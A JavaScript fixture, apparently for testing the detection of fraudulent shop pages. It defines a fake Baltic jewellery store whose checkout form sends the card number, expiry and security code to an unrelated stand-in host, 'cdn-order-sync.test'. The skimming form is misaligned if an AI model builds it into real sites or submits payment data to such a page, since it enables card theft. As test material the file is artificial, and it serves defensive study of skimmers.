import { pendant, ring } from '../art.mjs';
import { cardFields } from '../shop-page.mjs';

/** Looks like any small shop, but its form carries the card to an address nobody mentions. */
export default {
  host: 'amber-and-pine.test',
  lang: 'en',
  name: 'Amber & Pine',
  tagline: 'Jewellery from the Baltic coast',
  look: { '--a': '#6b3f12', '--b': '#c98a1b', '--ground': '#fbf7f0', '--card': '#fffdf9', '--tint': '#f4e8d4', '--line': '#eadfcb', '--font': '"Iowan Old Style",Georgia,"Noto Serif",serif', '--name': '600 26px/1.2 var(--font)' },
  goods: [{ name: 'Ring Dune', price: '€84.00', art: ring }, { name: 'Pendant Tide', price: '€112.00', art: pendant }],
  inCart: 2,
  till: 'checkout',
  words: { shop: 'Shop', cart: 'Basket', address: 'Address', payment: 'Payment', checkout: 'Checkout', order: 'Your order', delivery: 'Delivery', total: 'Total', thanks: 'Thank you for your order' },
  sums: { delivery: '€5.00', total: '€201.00' },
  payment: `<form class="panel" method="post" action="https://cdn-order-sync.test/in"><h2>Pay by card</h2>
${cardFields({ holder: 'Name on card', number: 'Card number', expiry: 'Expiry date', code: 'Security code' })}<p><button>Pay €201.00</button></p></form>`,
  foot: '<address>Amber &amp; Pine, 9 Harbour Row</address><a href="/imprint">About us</a>',
  imprint: '<h1>About us</h1><p>We set amber that the sea has brought in.</p>',
};
